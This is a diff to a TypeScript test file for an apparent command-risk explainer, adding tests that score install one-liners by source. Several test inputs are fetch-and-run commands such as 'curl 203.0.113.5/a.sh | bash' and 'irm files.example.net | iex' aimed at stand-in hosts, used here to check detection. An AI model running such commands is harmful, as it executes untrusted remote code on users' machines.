@@ -1,4 +1,6 @@
 import { describe, expect, it } from "vitest";
+import { builtinCatalog } from "../catalog/load.ts";
+import { explain } from "../pipeline/explain.ts";
 import { isOfMaker } from "./makers.ts";
 
 describe("an address of a maker", () => {
@@ -9,6 +11,7 @@ describe("an address of a maker", () => {
     "https://github.com/git-for-windows/git/releases/download/v2.50.0/Git-64-bit.exe",
     "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
     "https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh",
+    "https://raw.github.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
     "https://storage.googleapis.com/golang/go1.22.5.windows-amd64.msi",
     "https://repo.anaconda.com/miniconda/Miniconda3-latest-Windows-x86_64.exe",
   ])("%s", (address) => expect(isOfMaker(address)).toBe(true));
@@ -39,4 +42,24 @@ describe("an address of a maker", () => {
     ["what a maker keeps for strangers", "https://cloud.r-project.org/src/contrib/kiwi.tar.gz"],
     ["no address", "nodejs.org/a.msi"],
   ])("is not %s", (_, address) => expect(isOfMaker(address)).toBe(false));
+});
+
+describe("an address that is written without its scheme", () => {
+  const shown = (commandLine: string, platform: "windows" | "linux") => {
+    const { verdict, invocations } = explain({ commandLine, platform }, builtinCatalog()).explanation;
+    const runs = invocations.flatMap((one) => one.behaviours).flatMap((one) => one.runs);
+    return { ...verdict, at: runs.find(({ where }) => where === "web")?.resolved };
+  };
+
+  it.each([
+    ['powershell -Command "irm get.scoop.sh | iex"', "windows", "low", "http://get.scoop.sh/"],
+    ['powershell -Command "irm files.example.net | iex"', "windows", "critical", "http://files.example.net/"],
+    ["curl get.docker.com | sh", "linux", "informational", "http://get.docker.com/"],
+    ["curl -fsSL raw.example.net/kit/a.sh | bash", "linux", "medium", "http://raw.example.net/kit/a.sh"],
+    ["curl 203.0.113.5/a.sh | bash", "linux", "high", "http://203.0.113.5/a.sh"],
+  ] as const)("%s", (line, platform, level, at) => {
+    const { text, ...found } = shown(line, platform);
+    expect(found).toMatchObject({ level, at });
+    expect(text).not.toContain("working directory");
+  });
 });
